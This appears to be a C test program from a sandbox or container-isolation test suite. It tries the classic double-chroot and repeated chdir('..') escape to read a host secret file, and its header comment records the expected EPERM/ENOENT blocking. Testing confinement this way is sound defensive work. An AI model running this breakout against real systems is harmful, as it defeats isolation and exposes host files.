/* climb out by a second chroot and .. | seccomp, pivot_root without an old root | EPERM
 * ENOENT */
/* SPDX-License-Identifier: MIT */
#include "attack.h"

/* argv: a secret's absolute path on the host */
int main(int argc, char **argv)
{
	if (argc < 2)
		attack_lacks("the secret's path");
	(void)mkdir("/work/breakout", 0755);
	int r = chroot("/work/breakout");

	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	door("open behind ..", open(argv[1] + 1, O_RDONLY));
	door("chroot", r);
	r = chroot(".");
	door("open behind chroot", r < 0 ? r : open(argv[1], O_RDONLY));
	return attack_end();
}
